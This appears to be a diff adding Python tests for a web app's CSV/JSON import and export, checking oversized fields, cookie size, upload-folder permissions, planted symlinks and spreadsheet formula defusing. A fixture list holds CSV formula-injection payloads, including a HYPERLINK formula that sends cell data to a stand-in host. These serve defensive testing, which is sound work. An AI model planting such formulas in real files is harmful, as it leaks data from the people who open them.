@@ -3,6 +3,7 @@ cap, roles, CSRF, and the uploads kept between preview and Apply."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -238,3 +239,89 @@ def test_an_upload_never_applied_goes_when_the_page_is_next_opened(pages: Pages,
     os.utime(kept, (past, past))
     pages.text('/transfer')
     assert not kept.exists()
+
+
+def test_a_csv_cell_too_long_for_the_csv_reader_is_refused_in_place(pages: Pages) -> None:
+    # Python's csv module refuses a field over 128 KiB; an upload within the cap must still get an answer.
+    pages.sign_in('admin')
+    data = b'kind,name,host\r\noutconn,' + b'x' * (200 * 1024) + b',http://a.example.com\r\n'
+    answer = _upload(pages, data, 'export.csv')
+    text = answer.get_data(as_text=True)
+    assert answer.status_code == 422, text
+    assert 'file: is not a CSV file this import reads' in text and 'name="upload"' not in text
+    api = API(pages.app, pages.store).post('/api/v1/import', data=data, content_type='text/csv')
+    assert api.status_code == 422 and api.get_json()['errors'][0]['field'] == 'file'
+    assert pages.store.list_outconns() == []
+
+
+def test_a_long_file_name_keeps_the_session_cookie_small_enough_to_keep(pages: Pages) -> None:
+    # Browsers drop a cookie of more than 4 KB: the session would lose the upload waiting for its Apply.
+    pages.sign_in('admin')
+    name = ''.join(f'{index:x}' for index in range(2000)) + '.json'
+    preview = _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'}), name)
+    text = preview.get_data(as_text=True)
+    assert preview.status_code == 200, text
+    cookie = pages.client.get_cookie('session')
+    assert cookie is not None and len(cookie.value) < 4000
+    assert name[:90] in text
+    applied = pages.submit('/transfer', '/transfer/apply', {'upload': _upload_id(text)})
+    assert applied.status_code == 200 and pages.store.find_outconn('A')
+
+
+FORMULAE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(1)', "'=quoted", "'plain"]
+
+
+def test_the_csv_export_defuses_formulae_and_imports_them_back_as_they_were(pages: Pages) -> None:
+    # A cell opened in a spreadsheet must never run as a formula (OWASP's leading quote), and the
+    # import undoes exactly that quote, so that the file still round-trips.
+    for text in FORMULAE:
+        pages.store.create_security(SecurityConfig(name=text, sec_type='basic_auth', username='alice'))
+    pages.sign_in('admin')
+    exported = pages.get('/transfer/export?format=csv').get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ('=', '+', '-', '@', '\t', '\r')], cells
+    assert f"'{FORMULAE[0]}" in cells and "''=quoted" in cells and "''plain" in cells
+    preview = _upload(pages, exported.encode(), 'export.csv', on_conflict='overwrite').get_data(as_text=True)
+    assert [result for _, result in _results(preview)] == ['unchanged'] * len(FORMULAE), preview
+    assert sorted(record.config.name for record in pages.store.list_security()) == sorted(FORMULAE)
+    # A cell a person quoted by hand in a spreadsheet reads as what it shows.
+    hand = b"kind,name,host\r\noutconn,'=A1,http://a.example.com\r\noutconn,'B,http://b.example.com\r\n"
+    assert _results(_upload(pages, hand, 'hand.csv').get_data(as_text=True)) == [
+        ('=A1', 'would create'), ('&#39;B', 'would create')]
+
+
+def test_an_upload_folder_nobody_may_use_is_a_server_error_naming_the_setting(sqlite_store: Store,
+                                                                             tmp_path: Path) -> None:
+    folder = tmp_path / 'open'
+    folder.mkdir()
+    folder.chmod(0o777)
+    pages = Pages(make_app(sqlite_store, IMPORT_UPLOAD_FOLDER=str(folder)), sqlite_store)
+    pages.sign_in('admin')
+    answer = _upload(pages, _document({'name': 'A', 'host': 'http://a.example.com'}))
+    text = answer.get_data(as_text=True)
+    assert answer.status_code == 503, text
+    assert 'IMPORT_UPLOAD_FOLDER' in text and 'mode 0700' in text and 'name="upload"' not in text
+
+
+def test_an_upload_is_taken_once_and_a_link_in_its_place_is_never_read(tmp_path: Path) -> None:
+    uploads = PendingUploads(tmp_path / 'kept')
+    upload_id = uploads.keep(b'data')
+    # Two Applies of one preview at once: only one of them imports the file.
+    assert uploads.take(upload_id) == b'data' and uploads.take(upload_id) is None
+    assert list(uploads.folder.iterdir()) == []
+    planted = uploads.keep(b'planted')
+    target = tmp_path / 'elsewhere'
+    target.write_bytes(b'not an upload')
+    (uploads.folder / f'{planted}.upload').unlink()
+    (uploads.folder / f'{planted}.upload').symlink_to(target)
+    assert uploads.read(planted) is None and uploads.take(planted) is None
+    assert PendingUploads(tmp_path / 'never-made').take(upload_id) is None
+
+
+def test_the_page_still_opens_with_an_upload_folder_that_is_not_safe(sqlite_store: Store, tmp_path: Path) -> None:
+    folder = tmp_path / 'open'
+    folder.mkdir()
+    folder.chmod(0o777)
+    pages = Pages(make_app(sqlite_store, IMPORT_UPLOAD_FOLDER=str(folder)), sqlite_store)
+    pages.sign_in('admin')
+    assert 'Download CSV' in pages.text('/transfer')
